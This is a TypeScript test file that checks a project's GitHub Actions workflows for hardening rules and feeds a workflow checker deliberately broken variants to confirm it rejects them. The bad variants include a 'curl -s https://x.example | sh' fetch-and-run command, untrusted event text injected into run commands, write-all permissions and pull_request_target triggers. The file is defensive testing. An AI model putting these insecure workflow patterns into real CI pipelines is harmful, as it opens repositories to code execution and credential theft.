import { expect } from 'chai';
import { readdirSync, readFileSync } from 'node:fs';
import { ROOT } from '../../lib/root.ts';
import { judgeWorkflow } from '../support/judge-workflow.ts';

const FOLDER = new URL('.github/workflows/', ROOT);
const files = readdirSync(FOLDER);

function read(name: string): string {
  return readFileSync(new URL(name, FOLDER), 'utf8');
}

/** The file of all others, with one thing changed. */
function change(from: string | RegExp, to: string): string {
  const good = read('release.yml');
  const bad = good.replace(from, to);
  if (bad === good) throw new Error(`nothing to change: ${String(from)}`);
  return bad;
}

describe('architecture: workflows', () => {
  for (const name of files) {
    it(`${name}: actions are pinned, permissions least, jobs bounded, commands free of events`, () => {
      expect(name).to.match(/\.yml$/);
      expect(judgeWorkflow(read(name))).to.deep.equal([]);
    });
  }

  it('all that SPEC asks of CI has a step', () => {
    const all = files.map(read).join('\n');
    for (const step of [
      'run: npm test',
      'run: node bin/bootstrap/licences.mjs',
      'run: node bin/bootstrap/secrets.mjs',
      'run: npm audit --omit=dev --audit-level=high',
      'run: npm audit signatures',
      'npm sbom --sbom-format cyclonedx --omit dev',
      'run: npm run release',
      'scan-type: fs',
      'scan-type: image',
      "tags: ['v*']",
      'provenance: mode=max',
      'sbom: true',
    ]) {
      expect(all).to.include(step);
    }
    const scans = all.match(/scan-type: /g) ?? [];
    expect(
      all.match(/severity: HIGH,CRITICAL\n +ignore-unfixed: true\n +exit-code: '1'/g),
    ).to.have.length(scans.length);
  });

  const faults: readonly (readonly [what: string, text: () => string])[] = [
    ['a tag for a commit', () => change(/@[0-9a-f]{40} # v5\.0\.0/, '@v5')],
    ['a commit without its version', () => change(/(@[0-9a-f]{40}) # v5\.0\.0/, '$1')],
    ['pull_request_target', () => change("push:\n    tags: ['v*']", 'pull_request_target:')],
    ['workflow_run', () => change("push:\n    tags: ['v*']", 'workflow_run:')],
    [
      'an event in a command',
      () => change('run: npm test', 'run: echo ${{ github.event.head_commit.message }}'),
    ],
    [
      'an expression in a block of commands',
      () => change('mkdir assets', 'mkdir ${{ github.ref_name }}'),
    ],
    ['an event by way of env', () => change('${{ github.ref_name }}', '${{ github.event.ref }}')],
    [
      'a command that runs what it fetches',
      () => change('run: npm test', 'run: curl -s https://x.example | sh'),
    ],
    ['no permissions', () => change('permissions: {}\n', '')],
    ['permissions for everything', () => change('permissions: {}', 'permissions: write-all')],
    [
      'a job that may write more',
      () => change('packages: write', 'packages: write\n      actions: write'),
    ],
    [
      'a job that may write more, in one line',
      () => change(/permissions:\n {6}contents: read/, 'permissions: { contents: write }'),
    ],
    ['a job that may write more, quoted', () => change('contents: read', "contents: 'write'")],
    [
      'comments of strangers',
      () => change("push:\n    tags: ['v*']", 'issue_comment:\n    types: [created]'),
    ],
    ['triggers in one line', () => change("on:\n  push:\n    tags: ['v*']", 'on: [push]')],
    [
      'a pull request, where something is written',
      () => change("tags: ['v*']", "tags: ['v*']\n  pull_request:"),
    ],
    [
      'packages of a release from a cache',
      () => change('node-version: 24\n', 'node-version: 24\n          cache: npm\n'),
    ],
    [
      'layers of a release from a cache',
      () => change('push: true\n', 'push: true\n          cache-from: type=gha\n'),
    ],
    ['a job that may go on for ever', () => change('    timeout-minutes: 15\n', '')],
    ['a job that may go on for hours', () => change('timeout-minutes: 15', 'timeout-minutes: 300')],
    [
      'a checkout with its token',
      () => change('persist-credentials: false', 'persist-credentials: true'),
    ],
    ['any number at once', () => change('concurrency:\n', 'x:\n')],
    ['a secret of the repository', () => change('secrets.GITHUB_TOKEN', 'secrets.DEPLOY_KEY')],
    ['a machine that changes', () => change('ubuntu-24.04', 'ubuntu-latest')],
    ['no jobs', () => 'permissions: {}\nconcurrency:\n'],
  ];
  for (const [what, text] of faults) {
    it(`would refuse: ${what}`, () => {
      expect(judgeWorkflow(text())).to.not.deep.equal([]);
    });
  }
});
